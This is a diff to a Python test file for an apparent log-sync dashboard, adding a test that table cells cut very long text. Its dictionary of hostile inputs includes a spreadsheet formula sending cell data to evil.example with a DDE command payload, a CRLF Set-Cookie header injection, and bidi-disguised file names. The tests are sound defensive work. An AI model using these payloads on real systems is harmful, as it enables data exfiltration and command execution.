@@ -7,6 +7,7 @@ from datetime import timedelta
 
 import pytest
 
+from dashboard.page import cells
 from logsync.characters import visible
 from logsync.models import Account, ApiToken, IdentityProvider, Log, PersonAtApp, Stream, SyncRun
 from tests.conftest import NOW
@@ -26,7 +27,7 @@ HOSTILE = {
     "direction": "\u202e\u2066moc.live@\u202dgnp.exe\u2028",
     "lines": "a\r\nSet-Cookie: x=1\n\n@<b>\t",
     "formula": '=HYPERLINK("http://evil.example?"&A1,"x")@+cmd|\' /C calc\'!A0',
-    "long": "@" + "<b>😀\u202e" * 2_500,
+    "long": "@" + "<b>😀\u202e" * 200,
     "query": "?open=1&after=x#y@%00%3Cb%3E;a=b",
 }
 in_both_logs = pytest.mark.parametrize("log", [LOGINS, SCIM], ids=["logins", "scim"])
@@ -224,6 +225,13 @@ def test_hostile_text_is_isolated_elsewhere(path, account, make_login, make_stre
     fail(make_stream(Log.SCIM_UPDATES, HEBREW), NOW - timedelta(days=3), NOW, error=HEBREW)
     page = page_of(signed_in.get(path))
     assert page.text.count(HEBREW) == isolated(page, HEBREW) > 0
+
+
+@pytest.mark.parametrize("cell", [cells.text, cells.method, cells.address, cells.person, cells.resource_type])
+def test_huge_text_is_cut_in_cells(cell):
+    shown = cell("<\u202e@>" * 250_000)
+    assert "(the first 5,000 of 1,000,000 characters)" in shown
+    assert len(shown) < 20_000
 
 
 # What the browser is told to do with all this
